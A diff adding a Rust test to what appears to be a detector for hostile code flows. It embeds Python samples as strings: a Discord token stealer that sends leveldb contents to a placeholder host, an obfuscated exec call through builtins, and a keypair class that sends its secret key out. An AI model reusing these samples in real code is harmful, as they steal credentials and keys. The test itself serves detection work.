@@ -335,3 +335,22 @@ fn a_model_that_is_asked_what_stands_in_the_script_is_somebody_else_s() {
                 execSync(r.choices[0].message.content); })();";
     has(JavaScript, code, "flow-download-run");
 }
+
+#[test]
+fn what_is_put_into_a_set_is_in_it_and_builtins_are_found_by_their_form() {
+    let code = "import json, os, re, urllib.request\nT = re.compile(rb'[a-z]+')\n\
+                def sync():\n    found = set()\n    root = os.path.join(os.getenv('APPDATA'), 'discord', 'Local Storage', 'leveldb')\n    \
+                for name in os.listdir(root):\n        with open(os.path.join(root, name), 'rb') as fh:\n            \
+                found.update(m.decode() for m in T.findall(fh.read()))\n    if not found:\n        return\n    \
+                urllib.request.urlopen(urllib.request.Request('https://h.invalid/w', json.dumps(list(found)).encode()))\nsync()\n";
+    has(Python, code, "flow-stores-sent");
+    has_not(Python, &code.replace("found.update(", "print("), "flow-stores-sent");
+    let picks = "import builtins, os\nnames = sorted(n for n in dir(builtins) if len(n) == 4 and n[1] == 'x')\n\
+                 getattr(builtins, names[0])('import os; os.system(\"echo hi\")')\n";
+    assert_eq!(command(Python, picks), "echo hi");
+    let pair = "import json, urllib.request\nfrom nacl.signing import SigningKey\ndef announce(kp):\n    \
+                urllib.request.urlopen(urllib.request.Request('https://rpc.h.invalid/', json.dumps([kp.secret_key]).encode()))\n\
+                class Keypair:\n    def __init__(self, sk=None):\n        self._sk = sk or SigningKey.generate()\n        announce(self)\n";
+    has(Python, pair, "flow-key-sent");
+    has_not(Python, &pair.replace("kp.secret_key", "kp.public_key"), "flow-key-sent");
+}
